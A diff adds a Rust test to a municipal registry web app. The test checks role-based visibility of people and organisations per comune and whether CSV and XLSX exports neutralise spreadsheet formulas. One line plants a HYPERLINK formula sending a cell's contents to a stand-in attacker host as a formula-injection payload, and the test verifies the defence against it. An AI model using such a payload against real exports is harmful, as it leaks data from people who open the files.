@@ -363,3 +363,139 @@ async fn referente_edits_administrators_of_their_comune_only() {
             .contains("10/06/2029")
     );
 }
+
+#[tokio::test]
+async fn a_referente_sees_only_the_people_of_their_comune_and_exports_are_safe_to_open() {
+    let app = TestApp::new().await;
+    let t = app.state.territorio.get();
+    let parsed = dait::parse(&data_file("sindaci-toscana-dait-2025-01-17.csv"), &t).unwrap();
+    store::importa_dait(&app.db, &Actor::system("test"), &parsed, &app.state.config)
+        .await
+        .unwrap();
+    let all = store::amministratori(&app.db, &t, &app.state.config, &Default::default())
+        .await
+        .unwrap();
+    let sindaco_firenze = all.iter().find(|a| a.comune_istat == "048017").unwrap();
+    let sindaco_pisa = all.iter().find(|a| a.comune_istat == "050026").unwrap();
+    // A private person of Pisa with a birth date and an e-mail, and the Region, seated in Firenze.
+    let r = app
+        .post_form(
+            Role::Editor,
+            "/persone/nuova",
+            "nome=Privata&cognome=Pisana&email=privata%40example.org&data_nascita=01%2F02%2F1980",
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER);
+    let privata = r.location();
+    let r = app
+        .post_form(
+            Role::Editor,
+            "/organizzazioni/nuova",
+            "nome=Regione+Toscana&tipo=regione&comune=048017",
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
+    let regione = r.location();
+
+    // The referente of Firenze: Firenze's mayor yes; Pisa's mayor and the private person no.
+    let html = app
+        .get(Role::Referente, "/persone?per_pagina=500")
+        .await
+        .text();
+    let link = |a: &piazza_web::anagrafica::model::AmministratoreView| {
+        format!("/persone/{}", a.persona_public_id)
+    };
+    assert!(html.contains(&link(sindaco_firenze)), "{html}");
+    assert!(!html.contains(&link(sindaco_pisa)));
+    assert!(!html.contains("Pisana"));
+    let csv = app.get(Role::Referente, "/persone/export.csv").await.text();
+    assert!(csv.lines().count() > 1, "{csv}");
+    assert!(!csv.contains("privata@example.org") && !csv.contains("Pisana"));
+    assert_eq!(
+        app.get(Role::Referente, &privata).await.status,
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        app.get(
+            Role::Referente,
+            &format!("/persone/{}", sindaco_pisa.persona_public_id)
+        )
+        .await
+        .status,
+        StatusCode::NOT_FOUND
+    );
+    // The Region has its seat in Firenze but is not the comune's: no edit.
+    let r = app
+        .post_form(
+            Role::Referente,
+            &format!("{regione}/modifica"),
+            "nome=Presa&tipo=regione&comune=048017",
+        )
+        .await;
+    assert!(
+        r.status == StatusCode::FORBIDDEN || r.status == StatusCode::NOT_FOUND,
+        "{}",
+        r.status
+    );
+    // The staff see everything.
+    let html = app
+        .get(Role::Viewer, "/persone?per_pagina=500")
+        .await
+        .text();
+    assert!(html.contains("Pisana") && html.contains(&link(sindaco_pisa)));
+
+    // A referente renames one of the comune's offices into a formula: the staff's export
+    // shows it as text, never as a formula.
+    let r = app
+        .post_form(
+            Role::Referente,
+            "/organizzazioni/nuova",
+            "nome=Ufficio&tipo=ufficio_comunale&comune=048017",
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER);
+    let ufficio = r.location();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Apri\")";
+    let r = app
+        .post_form(
+            Role::Referente,
+            &format!("{ufficio}/modifica"),
+            &format!(
+                "nome={}&tipo=ufficio_comunale&comune=048017",
+                piazza_web::error::urlencode(formula)
+            ),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
+    let csv = app
+        .get(Role::Viewer, "/organizzazioni/export.csv")
+        .await
+        .text();
+    let riga = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap();
+    assert!(riga.contains("'=HYPERLINK"), "{riga}");
+    assert!(
+        !riga
+            .split(';')
+            .any(|c| c.trim_matches('"').starts_with('=')),
+        "{riga}"
+    );
+    let xlsx = app.get(Role::Viewer, "/organizzazioni/export.xlsx").await;
+    let righe = {
+        use calamine::Reader;
+        let mut wb = calamine::Xlsx::new(std::io::Cursor::new(xlsx.body.clone())).unwrap();
+        let r = wb.worksheet_range_at(0).unwrap().unwrap();
+        let formule = wb.worksheet_formula(&wb.sheet_names()[0].clone()).unwrap();
+        assert!(
+            formule.used_cells().count() == 0,
+            "no formula in the export"
+        );
+        r.rows().map(|x| x.to_vec()).collect::<Vec<_>>()
+    };
+    assert!(
+        righe
+            .iter()
+            .flatten()
+            .any(|c| *c == calamine::Data::String(formula.to_owned())),
+        "the name is a text cell (quote-prefixed, as typed), not a formula"
+    );
+}
